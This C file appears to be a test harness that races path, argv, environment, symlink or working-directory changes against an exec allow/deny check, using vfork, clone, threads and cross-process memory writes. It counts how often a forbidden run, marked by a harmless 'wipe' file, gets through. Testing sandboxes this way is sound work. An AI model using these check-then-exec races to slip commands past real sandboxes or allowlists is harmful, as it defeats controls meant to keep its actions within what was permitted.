/*
 * Races against the verdict on an exec: path, words or environment change between what is allowed and what
 * is not, while the kernel is about to read them.
 *
 *   exec_race WHAT WHO TRIES
 *
 * WHAT: argv, path, env, link (a symbolic link), cwd (which threads share).
 * WHO executes, and what writes:
 *	vfork	a child in the same memory; a thread of the parent writes
 *	clone	the same with a parent that does not wait
 *	leader	a process of its own in place; its second thread writes
 *	thread	a process of its own, whose second thread executes; the first one writes
 *	again	a program that has just been executed executes another; a process that shares a page writes
 *	shared	a child with memory of its own; a process that shares a page with it writes
 *	writev	as vfork; another process writes, with process_vm_writev(2)
 *
 * In the working directory stand copies of this program: `show1`, which may run but not with the word `wipe`,
 * `wiper`, which may not, and `git`, which may push in the repository `good` and not in `evil`, and nowhere
 * with GIT_DIR.  What is forbidden makes the file `wipe`.  Prints `WHAT WHO: N tries, N allowed, N won`.
 */
#include <fcntl.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stdatomic.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/auxv.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>

/* What is changed: in one page, which may be shared. */
struct words {
	char path[4096], name[16], word[16], env[64];
	atomic_uint turns;
	atomic_bool over;
};

static struct words *m;
static const char *what, *who;
static int dirs[2];

/* --- what is changed ---------------------------------------------------------------------------------- */

static void put(char *at, const char *text)
{
	pid_t parent = getppid();
	struct iovec from = { (void *)text, strlen(text) + 1 }, to = { at, strlen(text) + 1 };

	if (strcmp(who, "writev") == 0)
		(void)process_vm_writev(parent, &from, 1, &to, 1, 0);
	else
		memcpy(at, text, strlen(text) + 1);
}

static void flip(int evil)
{
	if (strcmp(what, "argv") == 0)
		put(m->word, evil ? "wipe" : "show");
	else if (strcmp(what, "path") == 0)
		put(m->path, evil ? "./wiper" : "./show1");
	else if (strcmp(what, "env") == 0)
		put(m->env, evil ? "GIT_DIR=evil/.git" : "GIT_DIX=evil/.git");
	else if (strcmp(what, "cwd") == 0)
		(void)fchdir(dirs[evil]);
	else if (unlink("link.new") == 0 || symlink(evil ? "wiper" : "show1", "link.new") == 0)
		(void)rename("link.new", "link");
}

static void *flipper(void *arg)
{
	while (!atomic_load(&m->over)) {
		flip(1);
		for (volatile unsigned i = 0; i < atomic_load(&m->turns) % 4096; i++)
			;
		flip(0);
		for (volatile unsigned i = 0; i < atomic_load(&m->turns) % 512; i++)
			;
		atomic_fetch_add(&m->turns, 7);
	}
	return arg;
}

/* --- who executes ------------------------------------------------------------------------------------- */

/* With the environment of the session, but for what is exchanged: no allow covers git without its HOME. */
static int go(void)
{
	char *argv[] = { m->name, m->word, NULL }, *envp[256] = { m->env };

	for (size_t i = 0; environ[i] && i + 2 < sizeof(envp) / sizeof(envp[0]); i++)
		envp[i + 1] = environ[i];
	execve(m->path, argv, envp);
	return 126;
}

static int go_child(void *arg)
{
	(void)arg;
	_exit(go());
}

static void *go_thread(void *arg)
{
	(void)arg;
	_exit(go());
}

static pid_t begin(void)
{
	static char stack[65536] __attribute__((aligned(16)));
	static char fd[16];
	char *again[] = { (char *)"exec_race", (char *)what, (char *)"again", (char *)"0", fd, NULL };
	pthread_t t;
	pid_t pid;

	if (strcmp(who, "vfork") == 0 || strcmp(who, "writev") == 0) {
		pid = vfork();
		if (pid == 0)
			_exit(go());
		return pid;
	}
	if (strcmp(who, "clone") == 0)
		return clone(go_child, stack + sizeof(stack), CLONE_VM | SIGCHLD, NULL);
	pid = fork();
	if (pid != 0)
		return pid;
	if (strcmp(who, "leader") == 0 && pthread_create(&t, NULL, flipper, NULL) == 0)
		_exit(go());
	if (strcmp(who, "thread") == 0 && pthread_create(&t, NULL, go_thread, NULL) == 0)
		flipper(NULL);
	if (strcmp(who, "again") == 0) {
		snprintf(fd, sizeof(fd), "%d", atoi(getenv("RACE_FD")));
		execv("/proc/self/exe", again);
		_exit(126);
	}
	_exit(go());
}

/* --- the race ------------------------------------------------------------------------------------------ */

static void prepare(void)
{
	bool cwd = strcmp(what, "cwd") == 0, git = cwd || strcmp(what, "env") == 0;

	if (!realpath(git ? "git" : "show1", m->path))
		exit(2);
	if (strcmp(what, "link") == 0)
		strcpy(m->path, "./link");
	strcpy(m->name, git ? "git" : "show1");
	strcpy(m->word, git ? "push" : "show");
	strcpy(m->env, cwd ? "NOTHING=" : "GIT_DIX=evil/.git");
	(void)symlink("show1", "link");
	dirs[0] = open("good", O_PATH);
	dirs[1] = open("evil", O_PATH);
}

/* What the program is when it is executed by itself: true where that is the forbidden. */
static int play(int argc, char **argv)
{
	const char *base = strrchr((const char *)getauxval(AT_EXECFN), '/');
	const char *dir = getenv("GIT_DIR");
	char self[4096] = "", cwd[4096] = "";
	bool evil;

	(void)!readlink("/proc/self/exe", self, sizeof(self) - 1);
	evil = strstr(self, "/wiper") || (argc > 1 && strcmp(argv[1], "wipe") == 0) ||
	       (base && strcmp(base, "/git") == 0 && dir) ||
	       (getcwd(cwd, sizeof(cwd)) && strstr(cwd, "/evil"));
	if (evil)
		close(open(strstr(cwd, "/evil") ? "../wipe" : "wipe", O_WRONLY | O_CREAT, 0644));
	return 0;
}

static int race(unsigned long tries)
{
	unsigned long i, allowed = 0, won = 0;
	bool inside = strcmp(who, "leader") == 0 || strcmp(who, "thread") == 0;
	pthread_t t;
	pid_t other = 0;
	int status;

	if (strcmp(who, "vfork") == 0 || strcmp(who, "clone") == 0)
		pthread_create(&t, NULL, flipper, NULL);
	else if (!inside && (other = fork()) == 0)
		_exit(flipper(NULL) != NULL);
	/* It goes on until one was allowed: a race in which all are refused shows nothing. */
	for (i = 0; i < tries || (allowed == 0 && i < 20 * tries); i++) {
		pid_t pid = begin();

		waitpid(pid, &status, 0);
		allowed += status == 0;
		won += unlink("wipe") == 0;
	}
	atomic_store(&m->over, true);
	if (other > 0) {
		kill(other, SIGKILL);
		waitpid(other, &status, 0);
	}
	printf("%s %s: %lu tries, %lu allowed, %lu won\n", what, who, i, allowed, won);
	return 0;
}

int main(int argc, char **argv)
{
	int fd = argc == 5 ? atoi(argv[4]) : memfd_create("words", 0);
	char text[16];

	if (argc < 4)
		return play(argc, argv);
	what = argv[1];
	who = argv[2];
	if (ftruncate(fd, sizeof(*m)) < 0)
		return 2;
	/* At the same place in all, so that one that writes from outside finds it. */
	m = mmap((void *)0x200000000000, sizeof(*m), PROT_READ | PROT_WRITE,
		 MAP_FIXED | (strcmp(who, "writev") == 0 ? MAP_PRIVATE | MAP_ANONYMOUS : MAP_SHARED),
		 strcmp(who, "writev") == 0 ? -1 : fd, 0);
	if (m == MAP_FAILED)
		return 2;
	if (argc == 5)
		return go();
	snprintf(text, sizeof(text), "%d", fd);
	setenv("RACE_FD", text, 1);
	prepare();
	return race(strtoul(argv[3], NULL, 10));
}
